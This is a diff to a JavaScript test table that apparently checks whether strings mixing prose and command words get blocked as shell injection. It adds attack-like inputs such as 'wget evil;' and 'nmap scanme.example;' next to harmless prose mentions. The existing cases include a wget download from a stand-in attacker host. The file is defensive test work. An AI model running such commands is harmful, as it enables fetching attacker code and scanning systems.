@@ -320,6 +320,10 @@ describe("command words in prose", () => {
     ["openssl >= 1.1.0 (optional, needed for the TLS backend)", false],
     ["curl <= 7.80 (affected by the bug)", false],
     ["openssl >= 1.1.0", true],
+    ["netstat output is a table of the open sockets;", false],
+    ["wget keeps the file name from the link;", false],
+    ["wget evil;", true],
+    ["nmap scanme.example;", true],
     ["uname -a > /tmp/o", true],
     ["wget http://evil.example/x >/tmp/x", true],
   ])("%j blocked: %s", (input, attack) => {
